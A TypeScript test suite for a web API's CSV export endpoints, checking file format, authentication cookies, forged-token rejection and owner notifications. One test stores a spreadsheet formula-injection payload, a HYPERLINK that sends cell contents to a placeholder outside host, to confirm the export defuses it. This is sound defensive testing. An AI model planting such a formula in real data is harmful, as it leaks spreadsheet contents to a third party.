import type { OutboxMailWire } from '@site/contract';
import { parse } from 'csv-parse/sync';
import jwt from 'jsonwebtoken';
import request from 'supertest';
import { createApplication, createContactMessage } from '../../testing/createLead';
import { setUpTestApi } from '../../testing/setUpTestApi';
import { signIn } from '../../testing/signIn';
import { TEST_SECRET } from '../../testing/startTestApi';
import { Lead, newLead } from './lead.model';
import { OutboxEntry } from '../mail/outbox.model';
import { resetAccount } from '../accounts/account.service';
import { User } from '../accounts/account.model';

const BOM = '\ufeff';
const PATHS = [
  '/api/applications/export',
  '/api/v1/applications/export',
  '/api/contact/export',
  '/api/v1/contact/export',
];

const { admin, api, send, signInAsNewAdmin } = setUpTestApi({ TRUSTED_PROXY: 'loopback' });
beforeEach(() => Promise.all([Lead.deleteMany(), OutboxEntry.deleteMany()]));

const download = (path = '/applications/export') => send('get', path).expect(200);
const rowsOf = (text: string) =>
  parse(text, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];

/** More than one batch of the database. */
async function storeMany(): Promise<void> {
  const records = Array.from({ length: 150 }, (_, nr) => {
    const receivedAt = new Date(Date.UTC(2025, 0, 1, 0, 0, nr));
    const name = `${nr % 2 === 0 ? 'Even' : 'Odd'} Nr${nr}`;
    const sent = { kind: 'application', name, email: 'a@b.example', message: 'x', gradYear: nr } as const;
    return newLead(sent, receivedAt, 24);
  });
  await Lead.insertMany(records);
}
const YEARS = Array.from({ length: 150 }, (_, nr) => 149 - nr);

describe('the file', () => {
  it('has the columns of the product, every cell in quotes, lines that end with CRLF, and is never cached', async () => {
    const receivedAt = new Date('2025-10-01T09:00:00.000Z');
    await createApplication({
      name: 'Ines',
      email: 'ines@b.example',
      message: 'Golf',
      gradYear: 2027,
      receivedAt,
    });
    await createApplication({ name: 'Ann', email: 'ann@b.example', message: 'Row', receivedAt: new Date(0) });

    const { text, headers } = await download();

    expect(text).toBe(
      [
        `${BOM}"name","email","grad_year","message","created_at"`,
        '"Ines","ines@b.example","2027","Golf","2025-10-01T09:00:00.000Z"',
        '"Ann","ann@b.example","","Row","1970-01-01T00:00:00.000Z"',
        '',
      ].join('\r\n'),
    );
    const day = new Date().toISOString().slice(0, 10);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="applications-${day}.csv"`,
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
    expect(headers).not.toHaveProperty('etag');
  });

  it('preserves every name and text, and contains no formula', async () => {
    const names = ['نور الهدى', '山田 太郎', 'Zoë 🏌️‍♀️', 'Seán "Jack" O’Hara', 'a,b;c', "O'Neill"];
    for (const name of names) await createApplication({ name });
    const formula = '=HYPERLINK("https://x.example?"&A1,"click")\r\nsecond line';
    const { _id } = await createApplication({ name: '＝1+1', message: formula, flags: ['honeypot'] });

    const rows = rowsOf((await download()).text);

    expect(rows.slice(1).map(({ name }) => name)).toEqual(names.toReversed());
    expect(rows[0]).toMatchObject({ name: "'＝1+1", message: `'${formula}` });
    expect((await Lead.findById(_id).orFail()).message).toBe(formula);
  });

  it('of the contact messages has no year, and the newest first', async () => {
    await createContactMessage({ name: 'Ann' });
    await createContactMessage({ name: 'Ines' });

    const { text, headers } = await download('/contact/export');

    expect(text.split('\r\n')[0]).toBe(`${BOM}"name","email","message","created_at"`);
    expect(rowsOf(text)).toMatchObject([{ name: 'Ines' }, { name: 'Ann' }]);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="contact-\d{4}-\d\d-\d\d\.csv"$/);
  });

  it('is complete and in order, the newest first, and not written for a HEAD request', async () => {
    await storeMany();

    const rows = rowsOf((await download()).text);

    expect(rows.map(({ grad_year }) => Number(grad_year))).toEqual(YEARS);
    await OutboxEntry.deleteMany();
    const head = await request(api.server)
      .head('/api/applications/export')
      .set('Authorization', admin.bearer)
      .expect(200);
    expect(head.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(head.text).toBeFalsy();
    expect(await OutboxEntry.countDocuments()).toBe(0);
  });
});

const get = (path: string) => request(api.server).get(path);
const signedIn = (path: string) => get(path).set('Authorization', admin.bearer);
const withCookie = (path: string, token: string) => get(path).set('Cookie', `export_access=${token}`);

function cookiesOf(response: { get(name: 'Set-Cookie'): string[] | undefined }): Map<string, string> {
  const cookies = response.get('Set-Cookie') ?? [];
  return new Map(cookies.map((cookie) => [/Path=([^;]*)/.exec(cookie)?.[1] ?? '', cookie]));
}

async function exportToken(): Promise<string> {
  const [cookie = ''] = cookiesOf(await signedIn('/api/applications').expect(200)).values();
  return /^export_access=([^;]+)/.exec(cookie)?.[1] ?? '';
}

describe('the cookies of the exports', () => {
  it('come with the lists', async () => {
    const cookies = cookiesOf(await signedIn('/api/v1/applications').expect(200));

    expect([...cookies.keys()]).toEqual(PATHS);
    for (const cookie of cookies.values()) {
      expect(cookie).toMatch(
        /^export_access=[\w-]+\.[\w-]+\.[\w-]+; Path=[a-z\d/]+; Max-Age=600; HttpOnly; SameSite=Strict$/,
      );
    }
  });

  it('are set by a login, and cleared by a logout', async () => {
    const { email, password } = admin;
    const login = await request(api.server).post('/api/auth/login').send({ email, password }).expect(200);
    expect([...cookiesOf(login).keys()]).toEqual(PATHS);
    expect(login.text).not.toContain(
      /^export_access=([^;]+)/.exec([...cookiesOf(login).values()][0] ?? '')?.[1],
    );

    const logout = await request(api.server)
      .post('/api/auth/logout')
      .set('Authorization', `Bearer ${login.body.token}`)
      .expect(204);
    expect([...cookiesOf(logout).keys()]).toEqual(PATHS);
    for (const cookie of cookiesOf(logout).values()) expect(cookie).toMatch(/^export_access=;.*Max-Age=0;/);
  });

  it('are Secure exactly when the proxy reports an encrypted connection', async () => {
    const overHttps = await signedIn('/api/applications').set('X-Forwarded-Proto', 'https');
    for (const cookie of cookiesOf(overHttps).values()) expect(cookie).toMatch(/; Secure$/);

    for (const proto of ['http', 'https, http']) {
      const cookies = cookiesOf(await signedIn('/api/applications').set('X-Forwarded-Proto', proto));
      for (const cookie of cookies.values()) expect(cookie).not.toContain('Secure');
    }
  });
});

describe('an export', () => {
  it('opens with the cookie or the header, and not with a token in the address', async () => {
    const token = await exportToken();
    for (const path of PATHS) {
      const { headers } = await withCookie(path, token).expect(200);
      expect(headers['content-disposition']).toMatch(/^attachment/);
      expect(headers['cache-control']).toBe('no-store');
    }
    await signedIn(PATHS[0]!).expect(200);

    for (const query of ['', `?token=${admin.bearer.slice(7)}`, `?export_access=${token}`])
      expect((await get(PATHS[0]! + query).expect(401)).body.code).toBe('unauthorized');
  });

  it('refuses the session token in the cookie, the cookie token in the header, and a cookie beside a wrong header', async () => {
    const token = await exportToken();

    await withCookie(PATHS[0]!, admin.bearer.slice(7)).expect(401);
    await get(PATHS[0]!).set('Authorization', `Bearer ${token}`).expect(401);
    await withCookie(PATHS[0]!, token).set('Authorization', 'Bearer a.b.c').expect(401);
  });

  it('is all that the cookie gives access to', async () => {
    const token = await exportToken();

    for (const path of ['/api/applications', '/api/auth/me']) {
      await withCookie(path, token).expect(401);
      await get(path).set('Authorization', `Bearer ${token}`).expect(401);
    }
  });

  it('opens with a copy of our token, and not with one that is late, forged, or of another use or session', async () => {
    const now = Math.floor(Date.now() / 1000);
    const { header, payload } = jwt.decode(await exportToken(), { complete: true })!;
    const openedWith = async (change: object, secret = TEST_SECRET) => {
      const token = jwt.sign({ ...(payload as jwt.JwtPayload), ...change }, secret, { keyid: header.kid });
      return (await withCookie(PATHS[0]!, token)).status;
    };

    // Shows that the others fail for their own reason.
    expect(await openedWith({})).toBe(200);
    expect(await openedWith({ iat: now - 700, exp: now - 100 })).toBe(401);
    expect(await openedWith({}, 'another-secret-of-at-least-32-characters')).toBe(401);
    expect(await openedWith({ aud: 'linksway-admin' })).toBe(401);
    expect(await openedWith({ jti: 'x'.repeat(22) })).toBe(401);
  });

  it('is closed by a logout, and by a new password', async () => {
    const first = await exportToken();
    await request(api.server).post('/api/auth/logout').set('Authorization', admin.bearer).expect(204);
    await withCookie(PATHS[0]!, first).expect(401);

    await signInAsNewAdmin();
    const second = await exportToken();
    await resetAccount(admin.email);
    await withCookie(PATHS[0]!, second).expect(401);
  });
});

it('an export is told to every owner, and to no editor', async () => {
  await User.deleteMany();
  await signInAsNewAdmin();
  const other = await signIn();
  await signIn('editor');
  await send('get', '/applications/export', other).expect(200);

  const { body } = await send('get', '/outbox').expect(200);
  const told = (body as OutboxMailWire[]).map(({ kind, to }) => [kind, to]);
  expect(told.sort()).toEqual([admin.email, other.email].sort().map((to) => ['export', to]));
});
